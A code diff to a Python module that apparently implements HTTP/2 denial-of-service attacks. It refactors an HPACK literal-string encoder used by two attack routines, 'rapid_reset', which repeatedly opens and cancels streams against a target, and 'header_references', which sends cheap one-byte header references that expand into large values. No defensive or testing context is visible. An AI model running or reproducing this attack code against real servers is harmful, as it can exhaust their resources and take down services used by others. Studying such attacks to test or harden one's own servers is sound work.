@@ -36,6 +36,17 @@ def call_headers(path: str, *more: tuple[str, str]) -> bytes:
     return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in headers])
 
 
+def literal(text: bytes) -> bytes:
+    """Write a string as HPACK has it, without Huffman's code."""
+    if len(text) < 127:
+        return bytes([len(text)]) + text
+    left, written = len(text) - 127, bytearray([127])
+    while left >= 128:
+        written.append(left % 128 + 128)
+        left //= 128
+    return bytes(written) + bytes([left]) + text
+
+
 def rapid_reset(target: str, path: str, seconds: float) -> tuple[int, int]:
     """Open and cancel calls on one connection after the other for so long; return how many, on how many connections."""
     block = call_headers(path)
@@ -64,7 +75,7 @@ def header_references(target: str, path: str, seconds: float, references: int = 
 
     A reference is one byte; what it stands for has ``size`` bytes.
     """
-    long = b"\x40" + _literal(b"x") + _literal(b"v" * size)
+    long = b"\x40" + literal(b"x") + literal(b"v" * size)
     calls = 0
     ends = time.monotonic() + seconds
     while time.monotonic() < ends:
@@ -80,14 +91,3 @@ def header_references(target: str, path: str, seconds: float, references: int = 
             except OSError:  # it was closed
                 continue
     return calls
-
-
-def _literal(text: bytes) -> bytes:
-    """Write a string as HPACK has it, without Huffman's code."""
-    if len(text) < 127:
-        return bytes([len(text)]) + text
-    left, written = len(text) - 127, bytearray([127])
-    while left >= 128:
-        written.append(left % 128 + 128)
-        left //= 128
-    return bytes(written) + bytes([left]) + text
